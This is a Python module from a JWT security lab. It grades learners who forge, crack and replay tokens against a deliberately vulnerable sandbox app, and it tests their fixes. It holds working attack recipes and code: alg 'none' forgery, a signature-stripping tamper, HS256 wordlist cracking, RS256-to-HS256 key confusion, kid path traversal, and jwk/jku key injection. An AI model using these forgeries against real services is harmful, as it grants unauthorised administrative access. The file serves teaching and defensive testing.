"""02-jwt: forge, crack and replay tokens against a hand-rolled verifier — then fix it.

Every check works over HTTP. Attack checks send the learner's token to the vulnerable app and
ask the lab-only ``/api/_lab/inspect`` route which real key (if any) signed it, so a check
knows *how* the token got in. Fix checks replay the batteries below against the learner's app.
"""

from __future__ import annotations

import random
import secrets
import string
import time
from collections.abc import Callable
from email.utils import parsedate_to_datetime
from typing import Any

import httpx
import jwt
from cryptography.hazmat.primitives.asymmetric import ec

from labkit.attacks.jwt import (
    b64url_decode,
    crack_hs256,
    decode_unverified,
    flip_signature_bit,
    forge,
    jwks_app,
    new_rsa_key,
    rsa_jwk,
    tamper,
    with_signature,
)
from labkit.exercises.check import CheckContext, Findings, Verdict
from labkit.exercises.registry import LabDefinition
from labkit.exercises.rules import Rule, merge_rules
from labkit.sandbox.apps.jwt import AUDIENCE, ISSUER
from labkit.sandbox.server import Sandbox
from labkit.wordlists import common_passwords

__all__ = [
    "BATTERIES",
    "COOKIE_RULES",
    "LAB",
    "REVOCATION_RULES",
    "TOKENS_RULES",
    "attack_battery",
    "cookie_battery",
    "lifecycle_battery",
    "parse_set_cookie",
]

LAB = LabDefinition("02-jwt", "02 · JWT access and refresh tokens", "labkit.sandbox.apps.jwt")

LOGIN, REFRESH, LOGOUT = "/api/auth/login", "/api/auth/refresh", "/api/auth/logout"
ME, ADMIN = "/api/me", "/api/admin/users"
NONE_CASINGS = ("none", "None", "NONE", "nOnE")
TRAVERSAL_KID = "../../../../../../../../../dev/null"
#: The catalogue's cookie: (attribute, expected value; None for a flag).
COOKIE_ATTRIBUTES: tuple[tuple[str, str | None], ...] = (
    ("httponly", None),
    ("secure", None),
    ("samesite", "strict"),
    ("path", "/api/auth/refresh"),
    ("max-age", "604800"),
)
ACCESS_MAX_S, REFRESH_MAX_S = 15 * 60, 7 * 24 * 3600
#: What the refresh route reads: the name, or a prefixed form (RFC 6265bis §4.1.3); a
#: ``__Host-`` cookie must have ``Path=/``, which breaks the narrow-path rule.
REFRESH_COOKIE_NAMES = ("refreshToken", "__Secure-refreshToken", "__Host-refreshToken")
GENUINE = ("access RSA key", "refresh secret")
TYPES = {"access": "at+jwt", "refresh": "refresh+jwt"}


# -- helpers -------------------------------------------------------------------------------
def _bearer(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


def _fault(response: httpx.Response) -> str:
    try:
        fault = response.json().get("labkitFault", "")
    except (ValueError, AttributeError):
        return ""
    return f" — {fault}" if fault else ""


def parse_set_cookie(header: str) -> tuple[str, str, dict[str, str | None]]:
    """``(name, value, {attribute-lowercase: value or None})`` of one Set-Cookie header."""
    first, *rest = [part.strip() for part in header.split(";")]
    name, _, value = first.partition("=")
    attributes: dict[str, str | None] = {}
    for part in rest:
        key, sep, val = part.partition("=")
        attributes[key.strip().lower()] = val.strip() if sep else None
    return name.strip(), value.strip(), attributes


def _refresh_set_cookie(response: httpx.Response) -> str | None:
    for header in response.headers.get_list("set-cookie"):
        if parse_set_cookie(header)[0] in REFRESH_COOKIE_NAMES:
            return header
    return None


class Session:
    """One login: its access token and its refresh token (read from Set-Cookie, because
    httpx does not send a ``Secure`` cookie over http://)."""

    def __init__(self, access: str, refresh: str, response: httpx.Response) -> None:
        self.access, self.refresh, self.response = access, refresh, response


def _accounts(client: httpx.Client) -> dict[str, tuple[str, str]]:
    return {a["role"]: (a["email"], a["password"]) for a in client.get("/api/_lab/accounts").json()}


def _login(client: httpx.Client, findings: Findings, role: str) -> Session | None:
    email, password = _accounts(client)[role]
    response = client.post(LOGIN, json={"email": email, "password": password})
    if not findings.expect(
        response.status_code == 200,
        f"logging in as {email} got {response.status_code}{_fault(response)}",
    ):
        return None
    cookie = _refresh_set_cookie(response)
    access = response.json().get("accessToken")
    if not findings.expect(
        isinstance(access, str) and cookie is not None,
        "login must answer {'accessToken': ...} and set the refreshToken cookie",
    ):
        return None
    return Session(str(access), parse_set_cookie(cookie or "")[1], response)


def _refresh(client: httpx.Client, refresh_token: str) -> httpx.Response:
    return client.post(REFRESH, headers={"Cookie": f"refreshToken={refresh_token}"})


def _inspect(client: httpx.Client, token: str) -> dict[str, Any]:
    return client.post("/api/_lab/inspect", json={"token": token}).json()


def _claims(token: str) -> tuple[dict[str, Any], dict[str, Any]] | None:
    try:
        return decode_unverified(token)
    except (ValueError, TypeError, AttributeError):
        return None


# -- rules: what each fix must do (rendered in the notebook, probed below) ----------------
COOKIE_RULES = (
    Rule(
        "cookie-name",
        "Name the cookie `refreshToken` (or `__Secure-refreshToken`: the refresh route reads "
        "these two names) and put the token itself in it.",
    ),
    Rule("http-only", "Mark it `HttpOnly`: no script can read it."),
    Rule("secure", "Mark it `Secure`: never sent over plain HTTP."),
    Rule("same-site", "Set `SameSite=Strict`: never sent with a cross-site request."),
    Rule(
        "narrow-path",
        "Set `Path=/api/auth/refresh` and no `Domain`: only the refresh route of this host "
        "receives it.",
    ),
    Rule(
        "cookie-lifetime",
        "Let it expire with the refresh token: `Max-Age=604800` (7 days), or an `Expires` "
        "date at most 7 days ahead.",
    ),
)
TOKENS_RULES = (
    Rule(
        "issue-contract",
        "Issue HS256 tokens signed with `keys['access']` / `keys['refresh']` (never a key of "
        "your own), header `typ` `at+jwt` / `refresh+jwt`, claims `sub` (a string), `iss`, "
        "`aud`, `iat`, `exp`, `ver`, plus `role` (access) or a fresh random `jti` and `fam` "
        "(refresh).",
    ),
    Rule(
        "accepts-valid",
        "Accept every valid token of the contract, also one minted by another service that "
        "holds the same key; logins, `/api/me` and the admin route keep working.",
    ),
    Rule(
        "hs256-only",
        "Verify with a fixed `algorithms=['HS256']`, never the header's `alg`: a token with "
        "`alg` `none` (any casing), `HS384`, `HS512`, `RS256` or `ES256` is refused.",
    ),
    Rule(
        "signature",
        "Refuse every token not signed with the key of its type: tampered claims; an empty, "
        "flipped or truncated signature; another random key; the other type's key; the "
        "published public key; a key named by `kid`, `jwk` or `jku`.",
    ),
    Rule(
        "exp-required",
        "Require `exp` and `iat`; refuse an expired token with 401 `Token expired` (a leeway "
        "of at most 60 s, never minutes or hours).",
    ),
    Rule(
        "lifetime",
        "Access tokens live at most 15 minutes and refresh tokens at most 7 days (`exp - iat`): "
        "issue them so, and refuse a token that claims a longer life, or whose `nbf` is in the "
        "future.",
    ),
    Rule(
        "iss-aud",
        "Require `iss` equal to `keys['issuer']` and `aud` equal to `keys['audience']`: a token "
        "without them, or for another issuer or audience, is refused.",
    ),
    Rule(
        "typed",
        "Check the header `typ`: only `at+jwt` is an access token and only `refresh+jwt` a "
        "refresh token (a refresh token never opens `/api/me`, an access token never "
        "refreshes, a token without `typ` is neither).",
    ),
)
REVOCATION_RULES = (
    Rule(
        "logout-revokes",
        "Logout revokes every token of the user, on every device: access and refresh tokens "
        "issued before it get 401 `Invalid token`; a new login works.",
    ),
    Rule(
        "rotate",
        "Each refresh returns a working access token and a new refresh token (a fresh `jti`, "
        "the same `fam`).",
    ),
    Rule(
        "reuse-detection",
        "A refresh token used a second time is refused and its whole family revoked: the newest "
        "token of that family stops working too (RFC 9700 §4.14.2).",
    ),
)


# -- batteries (fix checks and tests replay these) -----------------------------------------
def _max_age_ok(attributes: dict[str, str | None]) -> bool:
    max_age = attributes.get("max-age")
    if max_age is not None:
        return max_age.strip().lstrip("-").isdigit() and 0 < int(max_age) <= REFRESH_MAX_S
    expires = attributes.get("expires")
    if not expires:
        return False
    try:
        when = parsedate_to_datetime(expires).timestamp()
    except (TypeError, ValueError, IndexError):
        return False
    return time.time() < when <= time.time() + REFRESH_MAX_S + 60


def cookie_battery(client: httpx.Client, findings: Findings) -> None:
    """The refresh cookie at login has the catalogue's flags, and carries a working token."""
    email, password = _accounts(client)["viewer"]
    response = client.post(LOGIN, json={"email": email, "password": password})
    headers = response.headers.get_list("set-cookie")
    header = _refresh_set_cookie(response)
    if not findings.expect(
        response.status_code == 200 and header is not None,
        f"login got {response.status_code}{_fault(response)} without a cookie named "
        f"refreshToken (Set-Cookie: {[h.split('=', 1)[0] for h in headers]})",
        rule="cookie-name",
    ):
        return
    name, value, attributes = parse_set_cookie(header or "")
    used = _refresh(client, value) if value else None
    findings.expect(
        used is not None and used.status_code == 200,
        "the refreshToken cookie does not hold the refresh token: refreshing with its value "
        f"got {used.status_code if used is not None else 'nothing (empty)'}",
        "the cookie's value refreshes",
        rule="cookie-name",
    )
    shown = (header or "").split(";", 1)[-1].strip()
    flags = (("http-only", "httponly"), ("secure", "secure"))
    for rule_id, flag in flags:
        findings.expect(
            flag in attributes, f"the refresh cookie lacks {flag} (got: {shown!r})",
            f"cookie has {flag}", rule=rule_id,
        )  # fmt: skip
    findings.expect(
        (attributes.get("samesite") or "").lower() == "strict",
        f"the refresh cookie needs SameSite=Strict (got: {shown!r})",
        "cookie has SameSite=Strict",
        rule="same-site",
    )
    findings.expect(
        attributes.get("path") == REFRESH and "domain" not in attributes,
        f"the refresh cookie needs Path={REFRESH} and no Domain (got: {shown!r})",
        f"cookie has Path={REFRESH}, host-only",
        rule="narrow-path",
    )
    findings.expect(
        not name.startswith("__Host-"),
        "a __Host- cookie must have Path=/ (browsers refuse it otherwise), so every route "
        "would get it: name it refreshToken or __Secure-refreshToken",
        rule="narrow-path",
    )
    findings.expect(
        _max_age_ok(attributes),
        f"the refresh cookie must expire within 7 days: Max-Age=604800 (got: {shown!r})",
        "cookie expires with the refresh token",
        rule="cookie-lifetime",
    )


def _contract(
    client: httpx.Client, role: str, typ: str, rng: random.Random
) -> tuple[dict[str, Any], dict[str, Any]]:
    """A valid header and claims of the token contract for the seeded user with ``role``."""
    account = next(a for a in client.get("/api/_lab/accounts").json() if a["role"] == role)
    now = int(time.time())
    claims: dict[str, Any] = {
        "sub": str(account["id"]),
        "ver": account["tokenVersion"],
        "iss": ISSUER,
        "aud": AUDIENCE,
        "iat": now - rng.randint(0, 5),
    }
    if typ == "access":
        claims.update(role=role, exp=now + rng.randint(120, 600))
    else:
        claims.update(jti=secrets.token_urlsafe(16), fam=secrets.token_urlsafe(16),
                      exp=now + rng.randint(3600, 86400))  # fmt: skip
    return {"alg": "HS256", "typ": TYPES[typ]}, claims


def _mint(client: httpx.Client, key: str, header: dict[str, Any], claims: dict[str, Any]) -> str:
    """A token signed by the app with the learner's ``keys[key]`` (another service's token)."""
    response = client.post("/api/_lab/mint", json={"key": key, "header": header, "claims": claims})
    return str(response.json()["token"])


def _rand_word(rng: random.Random, n: int = 8) -> str:
    return "".join(rng.choice(string.ascii_lowercase) for _ in range(n))


def _casing(rng: random.Random, word: str) -> str:
    return "".join(c.upper() if rng.random() < 0.5 else c for c in word)


def _legitimate(client: httpx.Client, findings: Findings) -> tuple[Session, Session] | None:
    with findings.rule("accepts-valid"):
        admin, viewer = _login(client, findings, "admin"), _login(client, findings, "viewer")
        if admin is None or viewer is None:
            return None
        for label, session, admin_status in (("admin", admin, 200), ("viewer", viewer, 403)):
            me = client.get(ME, headers=_bearer(session.access))
            if not findings.expect(
                me.status_code == 200 and set(me.json()) >= {"id", "role"},
                f"{label}'s own access token: /api/me got {me.status_code} {me.text[:80]!r}"
                f"{_fault(me)}",
            ):
                return None
            findings.expect(
                me.json()["role"] == label,
                f"/api/me says role {me.json()['role']!r} for the {label}",
            )
            users = client.get(ADMIN, headers=_bearer(session.access))
            findings.expect(
                users.status_code == admin_status,
                f"{label} on /api/admin/users got {users.status_code}, expected {admin_status}"
                f"{_fault(users)}",
            )
    findings.saw("legitimate: login, /api/me, admin 200 for alice and 403 for carol")
    return admin, viewer


def _issued(client: httpx.Client, findings: Findings, session: Session) -> None:
    """The tokens the learner's issue_tokens made follow the contract."""
    with findings.rule("issue-contract"):
        for typ, token, key in (("access", session.access, "access key"),
                                ("refresh", session.refresh, "refresh key")):  # fmt: skip
            parsed = _claims(token)
            if not findings.expect(parsed is not None, f"the {typ} token is not a JWT"):
                continue
            header, claims = parsed or ({}, {})
            findings.expect(
                header.get("alg") == "HS256" and header.get("typ") == TYPES[typ],
                f"the {typ} token's header is {header}: alg HS256, typ {TYPES[typ]}",
            )
            needed = ["sub", "iss", "aud", "iat", "exp", "ver"]
            needed += ["role"] if typ == "access" else ["jti", "fam"]
            missing = [c for c in needed if c not in claims]
            findings.expect(not missing, f"the {typ} token lacks {', '.join(missing)}")
            findings.expect(
                isinstance(claims.get("sub"), str),
                f"the {typ} token's sub is {claims.get('sub')!r}: a string (RFC 7519 §4.1.2)",
            )
            aud = claims.get("aud")
            findings.expect(
                claims.get("iss") == ISSUER
                and (aud == AUDIENCE or (isinstance(aud, list) and AUDIENCE in aud)),
                f"the {typ} token's iss/aud are {claims.get('iss')!r}/{claims.get('aud')!r}: "
                "use keys['issuer'] and keys['audience']",
            )
            signed = _inspect(client, token).get("signedWith")
            if signed != key:
                hmac_signed = str(header.get("alg")) in ("HS256", "HS384", "HS512")
                cracked = crack_hs256(token, common_passwords()) if hmac_signed else None
                findings.fail(
                    f"the {typ} token is not signed with keys[{typ!r}]"
                    + (f": its key is the word {cracked!r} from a wordlist" if cracked else "")
                )
        findings.saw("issued tokens follow the contract (HS256, typ, claims, the app's keys)")
    with findings.rule("lifetime"):
        for label, token, limit in (
            ("access", session.access, ACCESS_MAX_S),
            ("refresh", session.refresh, REFRESH_MAX_S),
        ):
            claims = (_claims(token) or ({}, {}))[1]
            exp, iat = claims.get("exp"), claims.get("iat")
            life = exp - iat if all(isinstance(v, int | float) for v in (exp, iat)) else None
            findings.expect(
                life is not None and 0 < life <= limit,
                f"the {label} token must carry iat and exp and live at most {limit} s "
                f"(exp {exp}, iat {iat})",
                f"{label} token lifetime {life} s (at most {limit} s)",
            )


def _expect_refused(
    findings: Findings,
    response: httpx.Response,
    label: str,
    rule: str,
    body: str = "Invalid token",
) -> None:
    got = response.json() if response.headers.get("content-type", "").startswith("app") else {}
    findings.expect(
        response.status_code == 401 and got == {"error": body},
        f"{label}: got {response.status_code} {response.text[:80]!r}{_fault(response)} — "
        f'expected 401 {{"error": "{body}"}}',
        rule=rule,
    )


def _minted_battery(client: httpx.Client, findings: Findings, rng: random.Random) -> None:
    """Tokens of the contract signed with the learner's own keys, each with one thing wrong."""
    header, valid = _contract(client, "admin", "access", rng)
    good = client.get(ADMIN, headers=_bearer(_mint(client, "access", header, valid)))
    if not findings.expect(
        good.status_code == 200,
        f"a valid admin access token of the contract (HS256, keys['access'], typ at+jwt, "
        f"claims {sorted(valid)}) got {good.status_code} {good.text[:60]!r}{_fault(good)}",
        "a valid token minted by another service with the same key is accepted",
        rule="accepts-valid",
    ):
        return
    now = int(time.time())

    def refused(label: str, rule: str, claims: dict[str, Any], head: dict[str, Any] | None = None,
                key: str = "access", body: str = "Invalid token") -> None:  # fmt: skip
        token = _mint(client, key, head or header, claims)
        _expect_refused(findings, client.get(ADMIN, headers=_bearer(token)), label, rule, body)

    def without(name: str) -> dict[str, Any]:
        return {k: v for k, v in valid.items() if k != name}

    other_host = f"https://{_rand_word(rng)}.example"
    refused(f"iss {other_host!r}", "iss-aud", {**valid, "iss": other_host})
    refused(f"aud {other_host!r}", "iss-aud", {**valid, "aud": other_host})
    refused(f"aud [{other_host!r}]", "iss-aud", {**valid, "aud": [other_host]})
    refused("no iss", "iss-aud", without("iss"))
    refused("no aud", "iss-aud", without("aud"))
    refused(f"iss {ISSUER + '.' + _rand_word(rng, 4)!r}", "iss-aud",
            {**valid, "iss": f"{ISSUER}.{_rand_word(rng, 4)}"})  # fmt: skip
    refused("no exp", "exp-required", without("exp"))
    refused("no iat", "exp-required", without("iat"))
    for ago in (rng.randint(70, 90), rng.randint(2 * 3600, 30 * 86400)):
        stale = {**valid, "iat": now - ago - 600, "exp": now - ago}
        refused(f"expired {ago} s ago", "exp-required", stale, body="Token expired")
    far = rng.randint(ACCESS_MAX_S + 3600, 10 * 365 * 86400)
    refused(f"an access token living {far} s (exp - iat)", "lifetime", {**valid, "exp": now + far})
    soon = rng.randint(3600, 86400)
    refused(f"nbf {soon} s in the future", "lifetime", {**valid, "nbf": now + soon})
    for alg in ("HS384", "HS512"):
        refused(f"alg {alg} (signed with keys['access'])", "hs256-only", valid,
                {**header, "alg": alg})  # fmt: skip
    refused("signed with keys['refresh'], typ at+jwt", "signature", valid, key="refresh")
    refused(
        "typ refresh+jwt on /api/admin/users", "typed", valid, {**header, "typ": TYPES["refresh"]}
    )
    refused("no typ", "typed", valid, {"alg": "HS256"})
    refused("typ JWT", "typed", valid, {**header, "typ": "JWT"})
    refresh_header, refresh_claims = _contract(client, "viewer", "refresh", rng)
    as_refresh = _mint(client, "refresh", {**refresh_header, "typ": TYPES["access"]},
                       refresh_claims)  # fmt: skip
    _expect_refused(findings, _refresh(client, as_refresh), "typ at+jwt on the refresh route",
                    "typed")  # fmt: skip
    findings.saw("contract tokens with a wrong iss, aud, exp, nbf, lifetime, alg or typ refused")


def attack_battery(
    client: httpx.Client, findings: Findings, rng: random.Random, contract: bool = True
) -> None:
    """Every token attack of the lab against one app; legitimate use must keep working.

    ``contract``: the app follows the fix's token contract (HS256 with the keys it hands the
    learner's functions), so its issued tokens are inspected and contract tokens minted with
    its keys are sent too; the secure reference app (ES256) is judged without them.
    """
    sessions = _legitimate(client, findings)
    if sessions is None:
        return
    _, viewer = sessions
    if contract:
        _issued(client, findings, viewer)
    parsed = _claims(viewer.access)
    if not findings.expect(parsed is not None, "the access token is not a JWT"):
        return
    header, claims = parsed or ({}, {})
    header = {**header, "alg": "HS256"}  # the forgeries below are HMACs (the contract's alg)
    admin_claims = {**claims, "role": "admin"}

    def attempt(label: str, token: str, rule: str, body: str = "Invalid token") -> None:
        _expect_refused(findings, client.get(ADMIN, headers=_bearer(token)), label, rule, body)

    for casing in {"none", _casing(rng, "none"), _casing(rng, "none")}:
        attempt(f"alg {casing!r}", forge({"alg": casing, "typ": "JWT"}, admin_claims), "hs256-only")
    attacker = new_rsa_key()
    attempt(
        "alg RS256 (an attacker's RSA key)",
        jwt.encode(admin_claims, attacker, "RS256", headers={"typ": "at+jwt"}),
        "hs256-only",
    )
    ec_key = ec.generate_private_key(ec.SECP256R1())
    attempt(
        "alg ES256 (an attacker's EC key)",
        jwt.encode(admin_claims, ec_key, "ES256", headers={"typ": "at+jwt"}),
        "hs256-only",
    )
    with findings.rule("signature"):
        tampered = tamper(viewer.access, role="admin")
        attempt("role tampered, old signature kept", tampered, "signature")
        attempt("role tampered, null signature", with_signature(tampered, b""), "signature")
        signature = b64url_decode(viewer.access.rsplit(".", 1)[1])
        cut = rng.randint(1, max(1, len(signature) - 1))
        attempt(f"signature cut to {cut} bytes",
                with_signature(viewer.access, signature[:cut]), "signature")  # fmt: skip
        byte = rng.randrange(max(1, len(signature)))
        _expect_refused(
            findings,
            client.get(
                ME, headers=_bearer(flip_signature_bit(viewer.access, byte, rng.randrange(8)))
            ),
            f"one bit flipped in signature byte {byte}",
            "signature",
        )
        other = secrets.token_bytes(rng.randint(16, 64))
        attempt(f"signed with another random {len(other)}-byte key",
                forge(header, admin_claims, other), "signature")  # fmt: skip
        attempt("signed with an empty key", forge(header, admin_claims, b""), "signature")
        public_pem = client.get("/api/_lab/public-key").content
        for kid in ("access-rs256", None):
            confused = {**header, "alg": "HS256", **({"kid": kid} if kid else {})}
            attempt(f"HS256 signed with the public key (kid {kid})",
                    forge(confused, admin_claims, public_pem), "signature")  # fmt: skip
        attempt(
            "kid path traversal to /dev/null (empty key)",
            forge({**header, "kid": TRAVERSAL_KID}, admin_claims, b""),
            "signature",
        )
        attempt(
            "embedded jwk header (attacker's own key)",
            forge({"alg": "RS256", "typ": "at+jwt", "jwk": rsa_jwk(attacker)}, admin_claims,
                  attacker),
            "signature",
        )  # fmt: skip
        with Sandbox(jwks_app({"keys": [rsa_jwk(attacker)]}), name="02-jwt-attacker") as evil:
            jku = {
                "alg": "RS256",
                "typ": "at+jwt",
                "jku": f"{evil.url}/jwks.json",
                "kid": "attacker",
            }
            attempt("jku header pointing at the attacker's JWKS",
                    forge(jku, admin_claims, attacker), "signature")  # fmt: skip
    log = {
        entry["kind"]: entry["authorization"] for entry in client.get("/api/_lab/token-log").json()
    }
    expired = client.get(ADMIN, headers={"Authorization": log["expired"]})
    _expect_refused(findings, expired, "expired admin token from the log", "exp-required",
                    "Token expired")  # fmt: skip
    no_exp = client.get(ADMIN, headers={"Authorization": log["no-exp"]})
    _expect_refused(findings, no_exp, "admin token without exp from the log", "exp-required")
    _expect_refused(
        findings, client.get(ME, headers=_bearer(viewer.refresh)), "refresh token as access",
        "typed",
    )  # fmt: skip
    _expect_refused(findings, _refresh(client, viewer.access), "access token as refresh", "typed")
    _expect_refused(findings, client.get(ME), "no Authorization header", "accepts-valid",
                    "Missing token")  # fmt: skip
    if contract:
        _minted_battery(client, findings, rng)
    findings.saw("forged, tampered, expired and misused tokens refused")


def lifecycle_battery(client: httpx.Client, findings: Findings, rng: random.Random) -> None:
    """login → me → refresh (rotated, several times) → reuse detection → logout on every
    device → old tokens 401 → a new login works."""
    first = _login(client, findings, "viewer")
    if first is None:
        return
    me = client.get(ME, headers=_bearer(first.access))
    if not findings.expect(
        me.status_code == 200, f"/api/me with a fresh token got {me.status_code}{_fault(me)}",
        rule="rotate",
    ):  # fmt: skip
        return
    chain = [first.refresh]
    for step in range(rng.randint(2, 4)):
        rotated = _refresh(client, chain[-1])
        cookie = _refresh_set_cookie(rotated)
        if not findings.expect(
            rotated.status_code == 200 and cookie is not None and "accessToken" in rotated.json(),
            f"refresh #{step + 1} got {rotated.status_code} {rotated.text[:80]!r}"
            f"{_fault(rotated)}: it must answer {{'accessToken'}} and set a new refreshToken "
            "cookie",
            rule="rotate",
        ):
            return
        newer = parse_set_cookie(cookie or "")[1]
        old_claims, new_claims = (_claims(t) or ({}, {}) for t in (chain[-1], newer))
        findings.expect(
            newer != chain[-1] and new_claims[1].get("jti") != old_claims[1].get("jti"),
            f"refresh #{step + 1} returned the same refresh token or jti: rotate it",
            rule="rotate",
        )
        findings.expect(
            new_claims[1].get("fam") == old_claims[1].get("fam"),
            f"refresh #{step + 1} changed the family (fam): keep user['family']",
            rule="rotate",
        )
        works = client.get(ME, headers=_bearer(rotated.json()["accessToken"]))
        findings.expect(
            works.status_code == 200,
            f"the access token of refresh #{step + 1} got {works.status_code}{_fault(works)}",
            rule="rotate",
        )
        chain.append(newer)
    findings.saw(f"{len(chain) - 1} refreshes, each a new refresh token of the same family")
    reused = rng.randrange(len(chain) - 1)
    with findings.rule("reuse-detection"):
        _expect_refused(findings, _refresh(client, chain[reused]),
                        f"reuse of rotated refresh token #{reused}", "reuse-detection")  # fmt: skip
        _expect_refused(findings, _refresh(client, chain[-1]),
                        "the newest refresh token after a reuse (its family must be revoked)",
                        "reuse-detection")  # fmt: skip
    laptop, phone = _login(client, findings, "viewer"), _login(client, findings, "viewer")
    if laptop is None or phone is None:
        return
    out = client.post(LOGOUT, headers=_bearer(laptop.access))
    if not findings.expect(
        out.status_code in (200, 204), f"logout got {out.status_code}{_fault(out)}",
        rule="logout-revokes",
    ):  # fmt: skip
        return
    for device, session in (("this device", laptop), ("another device", phone)):
        _expect_refused(findings, client.get(ME, headers=_bearer(session.access)),
                        f"access token of {device} after logout", "logout-revokes")  # fmt: skip
        _expect_refused(findings, _refresh(client, session.refresh),
                        f"refresh token of {device} after logout", "logout-revokes")  # fmt: skip
    again = _login(client, findings, "viewer")
    if again is not None:
        after = client.get(ME, headers=_bearer(again.access))
        findings.expect(
            after.status_code == 200,
            f"logging in again after logout: /api/me got {after.status_code}{_fault(after)}",
            "logout revokes every device; a new login works",
            rule="logout-revokes",
        )


# -- attack checks -------------------------------------------------------------------------
def _token_answer(answer: Any) -> str | None:
    return answer.strip() if isinstance(answer, str) and answer.count(".") == 2 else None


def _judge_token(
    ctx: CheckContext,
    *,
    route: str,
    rule: Callable[[dict[str, Any], dict[str, Any], str | None], str | None],
    won: str,
    lost: str,
) -> Verdict:
    """Common shape of the token attacks: the token must get in, in the way the check names.

    ``rule(header, claims, signed_with)`` returns a problem message or None.
    """
    token = _token_answer(ctx.answer)
    if token is None:
        return Verdict(
            False, f"expected a JWT string (header.claims.signature), got {ctx.answer!r:.60}"
        )
    parsed = _claims(token)
    if parsed is None:
        return Verdict(False, "that is not a readable JWT (base64url JSON header and claims)")
    header, claims = parsed
    with ctx.target.client() as client:
        signed_with = _inspect(client, token).get("signedWith")
        problem = rule(header, claims, signed_with)
        if problem:
            return Verdict(False, lost, (problem,))
        response = client.get(route, headers=_bearer(token))
    if response.status_code != 200:
        return Verdict(
            False,
            lost,
            (f"the app answered {route} with {response.status_code} {response.text[:80]!r}",),
        )
    return Verdict(
        True, won, (f"{route} answered 200 to your token ({signed_with or 'no valid signature'})",)
    )


def _is_admin(claims: dict[str, Any]) -> str | None:
    return None if claims.get("role") == "admin" else "the token's role claim must be 'admin'"


@LAB.check(
    "alg-none",
    title="Forge admin tokens with alg 'none' in four casings",
    kind="attack",
    hints=(
        "The header picks the algorithm: with alg 'none' (in any casing) this verifier checks "
        "no signature. Put admin_claims in the claims; the signature segment stays empty.",
        "A segment is base64.urlsafe_b64encode(json.dumps(obj).encode()).rstrip(b'=')"
        ".decode(); the token is f'{header}.{claims}.' (a trailing dot, nothing after it). "
        "Hand in four: alg 'none', 'None', 'NONE', 'nOnE'.",
        "Ready-made: [labkit.attacks.jwt.forge({'alg': alg}, admin_claims) for alg in "
        "('none', 'None', 'NONE', 'nOnE')].",
    ),
    answer_help="a list of four tokens whose alg is 'none' in different casings",
)
def alg_none(ctx: CheckContext) -> Verdict:
    answer = ctx.answer
    if not isinstance(answer, (list, tuple)) or not all(_token_answer(t) for t in answer):
        return Verdict(False, f"expected a list of JWT strings, got {type(answer).__name__}")
    findings = Findings()
    casings: set[str] = set()
    with ctx.target.client() as client:
        for token in answer:
            header, claims = _claims(token) or ({}, {})
            alg = str(header.get("alg", ""))
            if not findings.expect(alg.lower() == "none", f"a token has alg {alg!r}, not 'none'"):
                continue
            status = client.get(ADMIN, headers=_bearer(token)).status_code
            if findings.expect(
                status == 200 and claims.get("role") == "admin",
                f"the alg {alg!r} token got {status} on /api/admin/users (needs role admin)",
            ):
                casings.add(alg)
    findings.expect(
        len(casings) >= 4,
        f"{len(casings)} casing(s) got admin access ({sorted(casings)}); show four",
        f"four casings of 'none' accepted: {sorted(casings)}",
    )
    return findings.verdict(
        "the app skips verification for alg 'none' in any casing", "not four working casings yet"
    )


@LAB.check(
    "tampered-role",
    title="Change your role to admin without a valid signature",
    kind="attack",
    hints=(
        "Changing a claim breaks the signature, and the app notices... unless there is no "
        "signature to check.",
        "Keep the first segment of your access token (alg RS256), base64url-encode "
        "admin_claims as the second, and end with '.': f'{head}.{claims}.'",
        "Ready-made: labkit.attacks.jwt.with_signature(labkit.attacks.jwt.tamper(access, "
        "role='admin'), b'').",
    ),
    answer_help="your access token with role 'admin' and a signature that does not verify",
)
def tampered_role(ctx: CheckContext) -> Verdict:
    def rule(header: dict[str, Any], claims: dict[str, Any], signed: str | None) -> str | None:
        if str(header.get("alg", "")).lower() == "none":
            return "keep the token's real alg: this check is about the signature, not alg none"
        if signed in GENUINE:
            return f"that token is genuinely signed ({signed}): tamper with a claim"
        return _is_admin(claims)

    return _judge_token(
        ctx, route=ADMIN, rule=rule, won="a token with no valid signature made you admin",
        lost="the tampered token did not get admin access",
    )  # fmt: skip


@LAB.check(
    "crack-secret",
    title="Crack the HS256 secret with the wordlist, then mint an admin token",
    kind="attack",
    hints=(
        "The refresh token (your refreshToken cookie) is HS256: its signature is "
        "HMAC-SHA256(secret, 'header.claims'). Guess the secret offline, one HMAC per word.",
        "signing_input, sig = refresh.rsplit('.', 1); for each word of common_passwords() "
        "compare hmac.new(word.encode(), signing_input.encode(), hashlib.sha256).digest() "
        "with base64.urlsafe_b64decode(sig + '=' * (-len(sig) % 4)). Then sign "
        "f'{header}.{admin claims}' the same way with the word you found.",
        "Ready-made: secret = labkit.attacks.jwt.crack_hs256(refresh, common_passwords()); "
        "labkit.attacks.jwt.forge({'alg': 'HS256'}, admin_claims, secret.encode()).",
    ),
    answer_help="an admin token signed with the cracked secret",
)
def crack_secret(ctx: CheckContext) -> Verdict:
    def rule(header: dict[str, Any], claims: dict[str, Any], signed: str | None) -> str | None:
        if signed != "refresh secret":
            return f"the token is not signed with the app's HS256 secret (signature: {signed})"
        return _is_admin(claims)

    return _judge_token(
        ctx, route=ADMIN, rule=rule, won="you minted an admin token with the app's own secret",
        lost="no admin token signed with the real secret yet",
    )  # fmt: skip


@LAB.check(
    "key-confusion",
    title="RS256 → HS256: sign with the public key as an HMAC secret",
    kind="attack",
    hints=(
        "The app loads the key for kid 'access-rs256' as bytes and runs the header's alg: "
        "with alg 'HS256' the public key file becomes an HMAC secret, and it is published.",
        "jwt.algorithms.RSAAlgorithm.from_jwk(jwks['keys'][0]).public_bytes(Encoding.PEM, "
        "PublicFormat.SubjectPublicKeyInfo) is the file (or GET /api/_lab/public-key); "
        "HMAC-SHA256 f'{header}.{claims}' with it, header {'alg': 'HS256', 'kid': "
        "'access-rs256'}.",
        "Ready-made: labkit.attacks.jwt.forge({'alg': 'HS256', 'kid': 'access-rs256'}, "
        "admin_claims, labkit.attacks.jwt.pem_from_jwk(jwks['keys'][0])).",
    ),
    answer_help="an admin token with alg HS256 signed with the PEM public key",
)
def key_confusion(ctx: CheckContext) -> Verdict:
    def rule(header: dict[str, Any], claims: dict[str, Any], signed: str | None) -> str | None:
        if signed != "public key as HMAC secret":
            return f"the token is not HS256-signed with the public key's PEM (signature: {signed})"
        return _is_admin(claims)

    return _judge_token(
        ctx, route=ADMIN, rule=rule, won="the public key verified your HMAC: key confusion",
        lost="no key-confusion token got in yet",
    )  # fmt: skip


@LAB.check(
    "expired-token",
